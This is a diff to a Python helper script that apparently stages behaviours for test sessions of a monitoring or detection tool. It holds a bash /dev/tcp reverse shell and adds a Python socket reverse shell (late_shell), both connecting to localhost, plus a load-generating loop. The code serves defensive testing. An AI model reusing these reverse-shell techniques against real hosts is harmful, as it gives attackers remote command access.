@@ -1,12 +1,22 @@
 # SPDX-License-Identifier: GPL-2.0-or-later
 """What is done in test sessions; run as: sessions.py NAME ARGUMENT..."""
 import os
+import socket
 import sys
 
 
 def reverse_shell(port):
     """bash connects back to PORT of this machine."""
     os.execvp('bash', ['bash', '-c', f'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'])
+
+
+def late_shell(port):
+    """Connects to PORT, waits for a line, and becomes a shell on the connection."""
+    peer = socket.create_connection(('127.0.0.1', int(port)))
+    sys.stdin.readline()
+    for fd in range(3):
+        os.dup2(peer.fileno(), fd)
+    os.execvp('bash', ['bash', '-i'])
 
 
 def dropped(source, target, seconds):
@@ -33,7 +43,7 @@ def load(seconds):
     os.execvp('bash', ['bash', '-c', f'''
 end=$((SECONDS + {seconds})); n=0
 while [ $SECONDS -lt $end ]; do
-    n=$((n + 1))
+    n=$((n + 1)); sleep 0.01
     echo $n | cat | tr 0-9 a-j >/dev/null
     (exec 3</dev/null; /bin/true; /bin/echo $n; sh -c 'exit 3') >/dev/null
     if [ $((n % 20)) = 0 ]; then
